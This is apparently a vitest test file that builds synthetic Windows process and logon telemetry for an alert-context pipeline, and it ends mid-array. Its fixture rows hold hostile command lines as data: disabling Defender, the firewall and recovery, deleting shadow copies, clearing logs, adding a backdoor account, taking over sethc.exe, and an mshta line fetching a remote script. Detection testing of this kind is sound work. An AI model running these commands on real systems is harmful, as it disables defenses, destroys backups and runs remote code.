import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_THRESHOLDS } from '../models/thresholds.js';
import { resolveThresholds } from '../pipeline/config.js';
import { runNightly } from '../pipeline/jobs/nightly.js';
import { makeContextReports } from '../pipeline/context/make-reports.js';
import { readReports } from '../pipeline/context/read-reports.js';
import type { ReportRecord } from '../pipeline/context/read-reports.js';
import type { Database } from '../pipeline/db.js';
import { GENERATE_DEFAULTS, generateFleet } from '../pipeline/generate/generate-fleet.js';
import { memoryDb, tempDir } from './helpers.js';

const S = 'C:\\Windows\\System32';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const CHX = 'C:\\Windows\\SystemApps\\Microsoft.Windows.AppRep.ChxApp_cw5n1h2txyewy\\CHXSmartScreen.exe';
const ndjson = (rows: unknown[]) => rows.map((r) => JSON.stringify(r)).join('\n') + '\n';

interface Proc { t: string; pid: number; ppid: number; image: string; parent: string; cmd: string; logon: string; user: string; host: string }

/**
 * Small hand-made cases on top of a generated fleet's history (8 hosts, 4 days before): an
 * attacker's session on a known workstation, the same kind of alert on a host with no history,
 * a fleet-common logon-script burst and a rare scripted one.
 */
describe('context follows the alert: relation, churn, cold start, families, burst patterns', () => {
  let db: Database;
  let reports: ReportRecord[];
  let wks: string;
  let ownerSession: string;
  let srv: string;
  let quiet: string;
  let carolHost: string;
  let day: string;

  beforeAll(async () => {
    const fleet = tempDir();
    const m = await generateFleet({ ...GENERATE_DEFAULTS, hosts: 8, days: 5, out: fleet, attackRate: 0 });
    day = m.days.at(-1)!;
    db = await memoryDb();
    // The discovery commands the attacker runs below are common in the fleet's history: every host
    // ran them on every earlier day (an administrator's routine).
    const hosts = (await db.all<{ host: string }>(`SELECT DISTINCT host FROM read_parquet($1) ORDER BY host`, [join(fleet, m.days[0]!, 'process_events.parquet')])).map((h) => h.host);
    for (const d of m.days.slice(0, -1)) {
      const routine = hosts.flatMap((host, h) => ['whoami', 'systeminfo', 'tasklist /svc'].map((cmd, c) => ({
        event_id: `routine-${d}-${h}-${c}`, ts: `${d}T09:0${c}:00Z`, host, user_name: 'CONTOSO\\helpdesk', logon_id: '0x4e1d', process_id: 9000 + c,
        image: `${S}\\${cmd.split(' ')[0]}.exe`, command_line: cmd, parent_process_id: 8996, parent_image: `${S}\\cmd.exe`,
      })));
      mkdirSync(join(fleet, d, 'routine'));
      writeFileSync(join(fleet, d, 'routine', 'process_events.ndjson'), ndjson(routine));
    }
    for (const d of m.days.slice(0, -1)) await runNightly(db, { date: d, input: fleet, thresholds: DEFAULT_THRESHOLDS });
    // A workstation of the fleet, its owner's logon script yesterday tells us its name and habits.
    ({ host: wks } = await db.one<{ host: string }>(`SELECT min(host) AS host FROM process_events WHERE parent_name = 'userinit.exe'`));
    // Its owner's logon script today (a burst every workstation runs every morning), from the day's file.
    const script0 = await db.one<{ t_rare: string; t_alert: string; logon_id: string; user_name: string }>(
      `SELECT strftime(ts + INTERVAL 20 SECOND, '%H:%M:%S.%g') AS t_rare, strftime(ts + INTERVAL 30 SECOND, '%H:%M:%S') AS t_alert, logon_id, user_name FROM read_parquet($1)
       WHERE lower(split_part(host, '.', 1)) = $2 AND parent_name = 'userinit.exe' AND process_name = 'cmd.exe' ORDER BY ts LIMIT 1`, [join(fleet, day, 'process_events.parquet'), wks]);
    ownerSession = script0.logon_id;
    const at = (t: string) => `${day}T${t}Z`;
    let n = 0;
    const procs: Proc[] = [];
    const p = (t: string, pid: number, ppid: number, image: string, parent: string, cmd: string, logon = '0xa11ce', user = 'CONTOSO\\mallory', host = wks) =>
      procs.push({ t, pid, ppid, image, parent, cmd, logon, user, host });
    // The attacker's session: a shell, discovery commands (common in the fleet's history), the
    // alert's process (a rare rundll32) and its child; the user's browser churn in the same session.
    p('10:00:00.000', 5000, 4000, `${S}\\cmd.exe`, 'C:\\Windows\\explorer.exe', '"C:\\Windows\\system32\\cmd.exe" ');
    p('10:00:05.000', 5004, 5000, `${S}\\whoami.exe`, `${S}\\cmd.exe`, 'whoami');
    p('10:00:10.000', 5008, 5000, `${S}\\systeminfo.exe`, `${S}\\cmd.exe`, 'systeminfo');
    p('10:00:15.000', 5012, 5000, `${S}\\tasklist.exe`, `${S}\\cmd.exe`, 'tasklist /svc');
    p('10:00:20.000', 5016, 5000, `${S}\\rundll32.exe`, `${S}\\cmd.exe`, 'rundll32.exe C:\\Users\\Public\\d.dll,Start');
    p('10:00:30.000', 5020, 5016, `${S}\\cmd.exe`, `${S}\\rundll32.exe`, 'cmd.exe /c ping -n 1 198.51.100.9');
    // a program every host runs (group policy's refresh, started by svchost.exe there), started
    // by the intruder's rare program: its own line, however common
    p('10:00:20.300', 5032, 5016, `${S}\\gpupdate.exe`, `${S}\\rundll32.exe`, 'gpupdate.exe /target:computer /force');
    // the console host Windows attaches to the shell (on every host of the fleet), and the shell's own rare ping
    p('10:00:30.040', 5024, 5020, `${S}\\conhost.exe`, `${S}\\cmd.exe`, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1');
    p('10:00:30.090', 5028, 5020, `${S}\\PING.EXE`, `${S}\\cmd.exe`, 'ping  -n 1 198.51.100.9');
    for (let i = 0; i < 12; i++) {
      p(`10:0${1 + Math.floor(i / 4)}:${String(10 + (i % 4) * 10).padStart(2, '0')}.000`, 6000 + i * 4, 5996, CHROME, CHROME,
        `"${CHROME}" --type=renderer --field-trial-handle=1880,i,${1000 + i * 37},${2000 + i * 91},131072 --lang=en-US --renderer-client-id=${5 + i} /prefetch:1`);
    }
    // A rare scripted burst in the attacker's session: 12 distinct programs in 30 seconds.
    const script = [
      ['net.exe', 'net user svc_backup Passw0rd! /add'], ['reg.exe', 'reg add HKLM\\Software\\Policies\\Microsoft\\Windows Defender /v DisableAntiSpyware /t REG_DWORD /d 1 /f'],
      ['schtasks.exe', 'schtasks /create /tn updater /tr C:\\Users\\Public\\u.exe /sc onlogon'], ['vssadmin.exe', 'vssadmin delete shadows /all /quiet'],
      ['wevtutil.exe', 'wevtutil cl security'], ['bcdedit.exe', 'bcdedit /set {default} recoveryenabled no'],
      ['netsh.exe', 'netsh advfirewall set allprofiles state off'], ['sc.exe', 'sc stop windefend'], ['attrib.exe', 'attrib +h C:\\Users\\Public\\d.dll'],
      ['icacls.exe', 'icacls C:\\Users\\Public\\u.exe /grant everyone:F'], ['takeown.exe', 'takeown /f C:\\Windows\\System32\\sethc.exe'], ['cipher.exe', 'cipher /w:C:\\Users\\Public'],
    ] as const;
    script.forEach(([exe, cmd], i) => p(`10:03:${String(i * 2).padStart(2, '0')}.500`, 7000 + i * 4, 5000, `${S}\\${exe}`, `${S}\\cmd.exe`, cmd));
    // Another user's session on the same host: browser churn and a shell nobody asked about.
    for (let i = 0; i < 6; i++) {
      p(`10:02:${String(i * 5).padStart(2, '0')}.000`, 8000 + i * 4, 7996, CHROME, CHROME, `"${CHROME}" --type=gpu-process --gpu-preferences=${'A'.repeat(8)}${i} --field-trial-handle=1880,i,${3000 + i},${4000 + i},131072 /prefetch:2`, '0xb0b', 'CONTOSO\\bob');
    }
    // In the owner's session, 20 s after today's logon script started: a program from their profile
    // that no host ran before (the script's burst around it is the fleet's routine all the same).
    p(script0.t_rare, 9900, 9896, 'C:\\Users\\Public\\Downloads\\invoice-viewer.exe', 'C:\\Windows\\explorer.exe',
      '"C:\\Users\\Public\\Downloads\\invoice-viewer.exe" /open inv-2291.pdf', script0.logon_id, script0.user_name);
    // A host with no history: the attacker's mshta in the alert's session, another user's browser.
    p('10:00:00.000', 900, 800, `${S}\\mshta.exe`, `${S}\\cmd.exe`, 'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -w hidden"":close")', '0xc01d', 'CONTOSO\\mallory', 'wks-new');
    for (let i = 0; i < 8; i++) {
      p(`10:01:${String(i * 5).padStart(2, '0')}.000`, 1000 + i * 4, 996, CHROME, CHROME, `"${CHROME}" --type=renderer --field-trial-handle=1880,i,${5000 + i * 13},${6000 + i * 7},131072 --renderer-client-id=${i} /prefetch:1`, '0xb0b', 'CONTOSO\\bob', 'wks-new');
    }
    // A server of the fleet: a network logon whose session runs nothing, then what the host starts
    // right after it (a PsExec-style service: services.exe -> cmd -> powershell -> whoami; a DCOM
    // object's mshta in a desktop user's session), and half a minute later a scheduled task of the
    // machine's own.
    ({ host: srv } = await db.one<{ host: string }>(`SELECT max(host) AS host FROM process_events WHERE host <> $1`, [wks]));
    const machine = ['0x3e7', 'NT AUTHORITY\\SYSTEM'] as const;
    p('10:05:00.200', 3100, 640, `${S}\\cmd.exe`, `${S}\\services.exe`, 'cmd.exe /c start /b powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==', ...machine, srv);
    p('10:05:00.300', 3104, 3100, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, `${S}\\cmd.exe`, 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==', ...machine, srv);
    p('10:05:20.000', 3108, 3104, `${S}\\whoami.exe`, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'whoami /all', ...machine, srv);
    // a DCOM object's process lands in the desktop user's session: explorer starts it
    p('10:05:01.000', 3120, 2900, `${S}\\mshta.exe`, 'C:\\Windows\\explorer.exe', 'mshta.exe vbscript:Close(Execute("GetObject(""script:http://198.51.100.7/a"")"))', '0xd5e5', 'CONTOSO\\dana', srv);
    // the desktop user's own work before and after: her tray application's start-up, a tool she runs later
    p('10:04:30.000', 3116, 2900, 'C:\\Users\\dana\\AppData\\Local\\Vendor\\traytool.exe', 'C:\\Windows\\explorer.exe', '"C:\\Users\\dana\\AppData\\Local\\Vendor\\traytool.exe" --startup --minimized', '0xd5e5', 'CONTOSO\\dana', srv);
    p('10:05:40.000', 3124, 2900, 'C:\\Users\\dana\\AppData\\Local\\Temp\\tool7.exe', 'C:\\Windows\\explorer.exe', '"C:\\Users\\dana\\AppData\\Local\\Temp\\tool7.exe" /quiet', '0xd5e5', 'CONTOSO\\dana', srv);
    // a COM server (Excel automation) that DcomLaunch starts in a network logon's own session
    p('10:06:01.000', 3130, 700, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', `${S}\\svchost.exe`, '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /automation -Embedding', '0xc0ffee', 'CONTOSO\\mallory', srv);
    // WMI starts the intruder's powershell in his own network logon's session: its parent, the fleet's
    // common wmiprvse.exe of NETWORK SERVICE, is the machine's plumbing; a rare service binary of
    // SYSTEM that starts his next command is evidence.
    p('10:07:59.500', 3140, 700, `${S}\\wbem\\WmiPrvSE.exe`, `${S}\\svchost.exe`, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', '0x3e4', 'NT AUTHORITY\\NETWORK SERVICE', srv);
    p('10:08:01.000', 3144, 3140, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, `${S}\\wbem\\WmiPrvSE.exe`, 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==', '0xf00d', 'CONTOSO\\mallory', srv);
    p('10:08:05.000', 3148, 3144, `${S}\\whoami.exe`, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'whoami /groups', '0xf00d', 'CONTOSO\\mallory', srv);
    p('10:09:00.000', 3150, 640, 'C:\\Windows\\Temp\\updsvc.exe', `${S}\\services.exe`, 'C:\\Windows\\Temp\\updsvc.exe -service', ...machine, srv);
    p('10:09:01.000', 3154, 3150, `${S}\\cmd.exe`, 'C:\\Windows\\Temp\\updsvc.exe', 'cmd.exe /c net group "domain admins" /domain', '0xf00d', 'CONTOSO\\mallory', srv);
    // Another person's process (a task host of her session, common in the fleet) starts one with
    // the intruder's credentials (runas, stolen credentials): not the machine's plumbing, still the
    // alert's tree.
    p('10:09:20.000', 3170, 2990, `${S}\\taskhostw.exe`, `${S}\\svchost.exe`, 'taskhostw.exe /RuntimeWide /{8C4A5F3D-2B1E-4F6A-9D7C-1E2F3A4B5C6D}', '0xe11e', 'CONTOSO\\erin', srv);
    p('10:09:31.000', 3174, 3170, `${S}\\net.exe`, `${S}\\taskhostw.exe`, 'net group "enterprise admins" /domain', '0xf00d', 'CONTOSO\\mallory', srv);
    p('10:05:30.000', 3112, 900, `${S}\\defrag.exe`, `${S}\\svchost.exe`, 'defrag.exe C: /O /H /U /V /X /Q', ...machine, srv);
    // A third host of the fleet, quiet: the machine's own work in the hour before a machine account's
    // network logon that runs nothing. One new line of a task every host runs (unusual, not
    // strongly: score 0.6 on this 8-host fleet), five new programs from pairs no host ran (0.8 each);
    // and a user's session that ran one new program of its own.
    ({ host: quiet } = await db.one<{ host: string }>(`SELECT min(host) AS host FROM process_events WHERE host NOT IN ($1, $2)`, [wks, srv]));
    p('10:10:00.000', 4100, 700, `${S}\\defrag.exe`, `${S}\\svchost.exe`, 'C:\\Windows\\system32\\defrag.exe -c -h -k -g -$', ...machine, quiet);
    for (let i = 1; i <= 5; i++) p(`10:${14 + i * 2}:00.000`, 4104 + i * 4, 640, `C:\\Windows\\Temp\\x${i}svc.exe`, `${S}\\services.exe`, `C:\\Windows\\Temp\\x${i}svc.exe -install`, ...machine, quiet);
    p('10:08:30.000', 4150, 4000, 'C:\\Users\\frank\\Downloads\\viewer-setup.exe', 'C:\\Windows\\explorer.exe', '"C:\\Users\\frank\\Downloads\\viewer-setup.exe" /quiet', '0xf4a4', 'CONTOSO\\frank', quiet);
    // a long-running implant (process 4444, started before the windows) starts a rundll32 of its own
    p('10:25:00.000', 4160, 4444, `${S}\\rundll32.exe`, 'C:\\ProgramData\\svcupd.exe', 'rundll32.exe C:\\ProgramData\\q.dll,Run', ...machine, quiet);
    p('10:27:00.000', 4140, 4000, 'C:\\Users\\eve\\Downloads\\setup-helper.exe', 'C:\\Windows\\explorer.exe', '"C:\\Users\\eve\\Downloads\\setup-helper.exe" /s', '0xe5e5', 'CONTOSO\\eve', quiet);
    // A fourth host: carol's program starts calc.exe, which hands off to the packaged Calculator.exe
    // that the system (svchost's DcomLaunch) starts in her session 0.4 s later (a COM activation);
    // later, as the system starts four programs in her session within a second (a logon's start-up),
    // her program's shell is followed half a second later by a vendor's sync.exe the system starts:
    // a coincidence there, not an activation.
    ({ host: carolHost } = await db.one<{ host: string }>(`SELECT min(host) AS host FROM process_events WHERE host NOT IN ($1, $2, $3)`, [wks, srv, quiet]));
    const carol = ['0xc4701', 'CONTOSO\\carol', carolHost] as const;
    const tool = 'C:\\Users\\carol\\Downloads\\tool.exe';
    p('11:00:00.000', 5500, 5400, tool, 'C:\\Windows\\explorer.exe', `"${tool}" --run`, ...carol);
    p('11:00:05.000', 5504, 5500, `${S}\\calc.exe`, tool, `"${S}\\calc.exe" `, ...carol);
    p('11:00:05.400', 5508, 700, 'C:\\Program Files\\WindowsApps\\Microsoft.WindowsCalculator_10.2008.2.0_x64__8wekyb3d8bbwe\\Calculator.exe', `${S}\\svchost.exe`,
      '"C:\\Program Files\\WindowsApps\\Microsoft.WindowsCalculator_10.2008.2.0_x64__8wekyb3d8bbwe\\Calculator.exe" -ServerName:App.AppXsm3pg4n7er43kdh1qp4e79f1j7am68r8.mca', ...carol);
    // (what the activated program starts is its child, and below: not the alert process's)
    p('11:00:06.000', 5512, 5508, `${S}\\cmd.exe`, 'C:\\Program Files\\WindowsApps\\Calculator.exe', 'cmd.exe /c calc-plugin --load', ...carol);
    p('11:00:06.500', 5516, 5512, `${S}\\whoami.exe`, `${S}\\cmd.exe`, 'whoami /priv', ...carol);
    ['RuntimeBroker.exe -Embedding', 'sihost.exe', 'ctfmon.exe', 'smartscreen.exe -Embedding'].forEach((cmd, i) =>
      p(`11:19:59.${String(200 + i * 200)}`, 5520 + i * 4, 700, `${S}\\${cmd.split(' ')[0]}`, `${S}\\svchost.exe`, `${S}\\${cmd}`, ...carol));
    p('11:20:00.000', 5540, 5500, `${S}\\cmd.exe`, tool, 'cmd.exe /c echo ready', ...carol);
    // Review helper-45's cases: in carol's second session, the system starts two more programs 4.8
    // and 9.6 s after Calculator.exe (a system start: no activator itself, activations do not chain);
    // in dave's, the COM surrogate the system started is recorded 100 ms after its own child, the
    // alert's cmd.exe (a child does not activate its parent), with a second child 3 s later.
    const carol2 = ['0xc4702', 'CONTOSO\\carol', carolHost] as const;
    p('12:00:00.000', 5700, 5400, tool, 'C:\\Windows\\explorer.exe', `"${tool}" --run`, ...carol2);
    p('12:00:05.000', 5704, 5700, `${S}\\calc.exe`, tool, `"${S}\\calc.exe" `, ...carol2);
    p('12:00:05.400', 5708, 700, 'C:\\Program Files\\WindowsApps\\Microsoft.WindowsCalculator_10.2008.2.0_x64__8wekyb3d8bbwe\\Calculator.exe', `${S}\\svchost.exe`,
      '"C:\\Program Files\\WindowsApps\\Microsoft.WindowsCalculator_10.2008.2.0_x64__8wekyb3d8bbwe\\Calculator.exe" -ServerName:App.AppXsm3pg4n7er43kdh1qp4e79f1j7am68r8.mca', ...carol2);
    p('12:00:10.200', 5712, 700, 'C:\\Users\\carol\\AppData\\Local\\Vendor\\updater.exe', `${S}\\svchost.exe`, '"C:\\Users\\carol\\AppData\\Local\\Vendor\\updater.exe" -Embedding', ...carol2);
    p('12:00:15.000', 5716, 700, 'C:\\Users\\carol\\AppData\\Local\\Vendor\\helper2.exe', `${S}\\svchost.exe`, '"C:\\Users\\carol\\AppData\\Local\\Vendor\\helper2.exe" -Embedding', ...carol2);
    const dave = ['0xda7e', 'CONTOSO\\dave', carolHost] as const;
    p('13:00:00.100', 5800, 700, `${S}\\dllhost.exe`, `${S}\\svchost.exe`, `${S}\\dllhost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}`, ...dave);
    p('13:00:00.000', 5804, 5800, `${S}\\cmd.exe`, `${S}\\dllhost.exe`, 'cmd.exe /c C:\\Users\\dave\\x.bat', ...dave);
    p('13:00:03.000', 5808, 5800, 'C:\\Users\\dave\\AppData\\Local\\Vendor\\sibling.exe', `${S}\\dllhost.exe`, '"C:\\Users\\dave\\AppData\\Local\\Vendor\\sibling.exe" /sib', ...dave);
    // gina's launcher, whose COM server the system starts 0.5 s after it, then her script: an
    // ancestor's activation is the alert's tree too
    const gina = ['0x9147', 'CONTOSO\\gina', carolHost] as const;
    const launcher = 'C:\\Users\\gina\\Downloads\\launcher.exe';
    p('15:00:00.000', 6000, 5400, launcher, 'C:\\Windows\\explorer.exe', `"${launcher}" `, ...gina);
    p('15:00:00.500', 6004, 700, 'C:\\Users\\gina\\AppData\\Local\\Vendor\\broker.exe', `${S}\\svchost.exe`, '"C:\\Users\\gina\\AppData\\Local\\Vendor\\broker.exe" -Embedding', ...gina);
    p('15:00:10.000', 6008, 6000, `${S}\\cmd.exe`, launcher, 'cmd.exe /c C:\\Users\\gina\\run.bat', ...gina);
    // erin double-clicks an installer that asks to be elevated: User Account Control's consent.exe
    // (the machine's session, started by the AppInfo service's svchost) 7 s before it starts, elevated,
    // in a new logon session; a prompt two minutes later precedes another user's program, and one
    // 90 s before the installer's child precedes nothing of its tree within the minute.
    const erin = ['0xe1e2', 'CONTOSO\\erin', carolHost] as const;
    const consent = (t: string, pid: number) => p(t, pid, 720, `${S}\\consent.exe`, `${S}\\svchost.exe`, `consent.exe 720 316 000001B0E7E2${pid}`, ...machine, carolHost);
    const setup = 'C:\\Users\\erin\\Downloads\\invoice-viewer.exe';
    // the same installer run 20 minutes before in her session before a reboot (and its script), and
    // by carol: only erin's is another run of the alert's
    p('13:40:00.000', 5880, 5390, setup, 'C:\\Windows\\explorer.exe', `"${setup}" `, '0xe1e0', erin[1], carolHost);
    p('13:40:05.000', 5884, 5880, `${S}\\cmd.exe`, setup, 'cmd.exe /c C:\\Users\\erin\\AppData\\Local\\Temp\\i.bat', '0xe1e0', erin[1], carolHost);
    p('13:40:30.000', 5886, 5880, `${S}\\notepad.exe`, setup, 'notepad.exe C:\\Users\\erin\\readme.txt', '0xe1e0', erin[1], carolHost);
    p('13:50:00.000', 5890, 5400, setup, 'C:\\Windows\\explorer.exe', `"${setup}" `, ...carol);
    p('13:50:01.000', 5894, 5890, `${S}\\cmd.exe`, setup, 'cmd.exe /c C:\\Users\\carol\\AppData\\Local\\Temp\\c.bat', ...carol);
    // SmartScreen's check and its warning in her desktop session 0xe1e1, their parent unrecorded
    // (Sysmon's '-'), then UAC's prompt
    procs.push({ t: '13:59:53.000', pid: 5896, ppid: 716, image: `${S}\\smartscreen.exe`, parent: '', cmd: `${S}\\smartscreen.exe -Embedding`, logon: '0xe1e1', user: erin[1], host: carolHost });
    procs.push({ t: '13:59:55.000', pid: 5898, ppid: 716, image: CHX, parent: '', cmd: `"${CHX}" -ServerName:App.AppXk7vvv12h4qrkhkbvf6j86ja45mzj5km9.mca`, logon: '0xe1e1', user: erin[1], host: carolHost });
    consent('14:00:00.000', 5900);
    p('14:00:07.000', 5904, 5400, setup, 'C:\\Windows\\explorer.exe', `"${setup}" `, ...erin);
    consent('14:02:00.000', 5908);
    p('14:02:02.000', 5912, 5400, 'C:\\Users\\carol\\Downloads\\notes.exe', 'C:\\Windows\\explorer.exe', '"C:\\Users\\carol\\Downloads\\notes.exe" ', ...carol);
    consent('14:03:00.000', 5916);
    p('14:04:30.000', 5920, 5904, `${S}\\cmd.exe`, setup, 'cmd.exe /c C:\\Users\\erin\\AppData\\Local\\Temp\\i.bat', ...erin);
    // Prompts that were not the tree's: UAC's prompt, then harry's setup (the launch it let through),
    // then kate's whoami 40 s after it; bob's SmartScreen warning, then kate's ipconfig 20 s later
    const kate = ['0x4a12', 'CONTOSO\\kate', carolHost] as const;
    consent('16:00:00.000', 6100);
    p('16:00:05.000', 6104, 5400, 'C:\\Users\\harry\\Downloads\\setup.exe', 'C:\\Windows\\explorer.exe', '"C:\\Users\\harry\\Downloads\\setup.exe" ', '0x4a11', 'CONTOSO\\harry', carolHost);
    p('15:50:00.000', 6108, 5400, `${S}\\cmd.exe`, 'C:\\Windows\\explorer.exe', '"C:\\Windows\\system32\\cmd.exe" ', ...kate);
    p('16:00:40.000', 6112, 6108, `${S}\\whoami.exe`, `${S}\\cmd.exe`, 'whoami /all', ...kate);
    procs.push({ t: '16:10:00.000', pid: 6116, ppid: 716, image: CHX, parent: '', cmd: `"${CHX}" -ServerName:App.AppXk7vvv12h4qrkhkbvf6j86ja45mzj5km9.mca`, logon: '0x4a13', user: 'CONTOSO\\bob', host: carolHost });
    p('16:10:20.000', 6120, 6108, `${S}\\ipconfig.exe`, `${S}\\cmd.exe`, 'ipconfig /all', ...kate);
    // ivan's updater relaunches itself with its own command line, then runs a shell: the first run is
    // the alert's own chain, not another run of it
    const ivan = ['0x1a1a', 'CONTOSO\\ivan', carolHost] as const;
    const upd = 'C:\\Users\\ivan\\AppData\\Local\\upd\\upd.exe';
    p('17:00:00.000', 6200, 5400, upd, 'C:\\Windows\\explorer.exe', `"${upd}" --check`, ...ivan);
    p('17:00:01.000', 6204, 6200, upd, upd, `"${upd}" --check`, ...ivan);
    p('17:00:02.500', 6216, 6200, 'C:\\Users\\ivan\\AppData\\Local\\upd\\helper.exe', upd, '"C:\\Users\\ivan\\AppData\\Local\\upd\\helper.exe" --sync', ...ivan);
    p('17:00:02.000', 6208, 6204, `${S}\\cmd.exe`, upd, 'cmd.exe /c whoami', ...ivan);
    p('17:00:03.000', 6212, 6208, `${S}\\whoami.exe`, `${S}\\cmd.exe`, 'whoami', ...ivan);
    p('11:20:00.500', 5544, 700, 'C:\\Users\\carol\\AppData\\Local\\Vendor\\sync.exe', `${S}\\svchost.exe`, '"C:\\Users\\carol\\AppData\\Local\\Vendor\\sync.exe" -Embedding', ...carol);
    const logons = [
      { event_id: 'rel-quiet-logon', ts: at('10:29:00.000'), host: quiet, user_name: 'WKS-0042$', user_domain: 'CONTOSO', logon_id: '0x5eb0', logon_type: 3, source_ip: '10.10.0.42', source_host: 'WKS-0042', outcome: 'success' },
      { event_id: 'rel-netlogon', ts: at('10:05:00.000'), host: srv, user_name: 'mallory', user_domain: 'CONTOSO', logon_id: '0xbad5e55', logon_type: 3, source_ip: '10.10.0.66', source_host: 'WKS-0066', outcome: 'success' },
      { event_id: 'rel-netlogon-wmi', ts: at('10:08:00.000'), host: srv, user_name: 'mallory', user_domain: 'CONTOSO', logon_id: '0xf00d', logon_type: 3, source_ip: '10.10.0.66', source_host: 'WKS-0066', outcome: 'success' },
      { event_id: 'rel-netlogon-com', ts: at('10:06:00.500'), host: srv, user_name: 'mallory', user_domain: 'CONTOSO', logon_id: '0xc0ffee', logon_type: 3, source_ip: '10.10.0.66', source_host: 'WKS-0066', outcome: 'success' },
      // the desktop user's own RDP session, and her RDP client authenticating again just before her tool7
      { event_id: 'rel-dana-rdp', ts: at('09:00:00.000'), host: srv, user_name: 'dana', user_domain: 'CONTOSO', logon_id: '0xd5e5', logon_type: 10, source_ip: '10.10.0.50', source_host: 'WKS-0050', outcome: 'success' },
      { event_id: 'rel-dana-nla', ts: at('10:05:39.600'), host: srv, user_name: 'dana', user_domain: 'CONTOSO', logon_id: '0xd5e6', logon_type: 3, source_ip: '10.10.0.50', source_host: 'WKS-0050', outcome: 'success' },
      // a machine account's network logon (group policy, a file share) a second before the user's tool7: it enters nothing
      { event_id: 'rel-netlogon-machine', ts: at('10:05:39.000'), host: srv, user_name: 'WKS-0042$', user_domain: 'CONTOSO', logon_id: '0x5ea7', logon_type: 3, source_ip: '10.10.0.42', source_host: 'WKS-0042', outcome: 'success' },
    ];
    // The workstation is busy with other people's network logons (file shares, 40 in the hour), one
    // of them half a second before the attacker's rundll32: a coincidence, which enters nothing.
    for (let i = 0; i < 40; i++) {
      logons.push({ event_id: `rel-busy-${i}`, ts: at(`09:${String(45 + Math.floor(i / 2)).padStart(2, '0')}:${i % 2 ? '30' : '00'}.000`), host: wks, user_name: `user${i}`, user_domain: 'CONTOSO', logon_id: `0x7${String(i).padStart(3, '0')}`, logon_type: 3, source_ip: `10.20.0.${i + 1}`, source_host: `WKS-${1000 + i}`, outcome: 'success' });
    }
    logons.push({ event_id: 'rel-busy-coincident', ts: at('10:00:19.500'), host: wks, user_name: 'bob', user_domain: 'CONTOSO', logon_id: '0x7b0b', logon_type: 3, source_ip: '10.20.0.77', source_host: 'WKS-0077', outcome: 'success' });
    const rows = procs.map((x) => ({
      event_id: `rel-${++n}`, ts: at(x.t), host: x.host, user_name: x.user, logon_id: x.logon, process_id: x.pid, image: x.image,
      command_line: x.cmd, parent_process_id: x.ppid, parent_image: x.parent,
    }));
    const alerts = [
      { alert_id: 'rel-session', ts: at('10:00:21'), alert_name: 'Suspicious rundll32 execution', severity: 'High', host: wks, user_name: 'mallory', logon_id: '0xa11ce', process_id: 5016 },
      // The same alert carrying only the process: the session comes from the alert's process.
      { alert_id: 'rel-process', ts: at('10:00:21'), alert_name: 'Suspicious rundll32 execution', severity: 'High', host: wks, process_id: 5016 },
      { alert_id: 'rel-cold', ts: at('10:00:02'), alert_name: 'Suspicious mshta execution', severity: 'High', host: 'wks-new', user_name: 'mallory', logon_id: '0xc01d' },
      // An alert on the network logon alone: no process.
      // An alert on the DCOM object's process, in the desktop user's session.
      { alert_id: 'rel-entered', ts: at('10:05:01'), alert_name: 'Suspicious mshta execution', severity: 'High', host: srv, user_name: 'dana', logon_id: '0xd5e5', process_id: 3120 },
      // An alert on the user's own tool, started a second after a machine account's network logon.
      { alert_id: 'rel-own-tool', ts: at('10:05:41'), alert_name: 'Unsigned program from Temp', severity: 'Medium', host: srv, user_name: 'dana', logon_id: '0xd5e5', process_id: 3124 },
      // An alert on a network logon whose session ran a COM server.
      { alert_id: 'rel-com', ts: at('10:06:02'), alert_name: 'Lateral movement over DCOM', severity: 'High', host: srv, user_name: 'mallory', logon_id: '0xc0ffee' },
      // Alerts on the intruder's processes that a service host started in his network logon's session.
      { alert_id: 'rel-wmi', ts: at('10:08:02'), alert_name: 'Encoded PowerShell started by WMI', severity: 'High', host: srv, user_name: 'mallory', logon_id: '0xf00d', process_id: 3144 },
      { alert_id: 'rel-runas', ts: at('10:09:32'), alert_name: 'Enterprise admins enumerated', severity: 'Medium', host: srv, user_name: 'mallory', logon_id: '0xf00d', process_id: 3174 },
      { alert_id: 'rel-svc', ts: at('10:09:02'), alert_name: 'Domain admins enumerated', severity: 'Medium', host: srv, user_name: 'mallory', logon_id: '0xf00d', process_id: 3154 },
      { alert_id: 'rel-remote', ts: at('10:05:02'), alert_name: 'Service installed from a network logon', severity: 'Medium', host: srv, user_name: 'mallory', logon_id: '0xbad5e55' },
      // An alert on the machine account's network logon on the quiet host, and one that names only that host.
      { alert_id: 'rel-quiet-logon', ts: at('10:30:00'), alert_name: 'Machine account logon from an unusual source', severity: 'Low', host: quiet, user_name: 'WKS-0042$', logon_id: '0x5eb0' },
      { alert_id: 'rel-quiet-host', ts: at('10:30:00'), alert_name: 'Host isolated by policy', severity: 'Low', host: quiet },
      // one that names a process the telemetry does not hold (started before the windows, or not recorded)
      { alert_id: 'rel-quiet-pid', ts: at('10:30:00'), alert_name: 'Process injection', severity: 'High', host: quiet, process_id: 31337 },
      { alert_id: 'rel-quiet-implant', ts: at('10:30:00'), alert_name: 'Beaconing process', severity: 'High', host: quiet, process_id: 4444 },
      { alert_id: 'rel-quiet-early', ts: at('10:09:00'), alert_name: 'Program run from Downloads', severity: 'Low', host: quiet, user_name: 'frank', logon_id: '0xf4a4' },
      { alert_id: 'rel-quiet-user', ts: at('10:30:00'), alert_name: 'Program run from Downloads', severity: 'Low', host: quiet, user_name: 'eve', logon_id: '0xe5e5' },
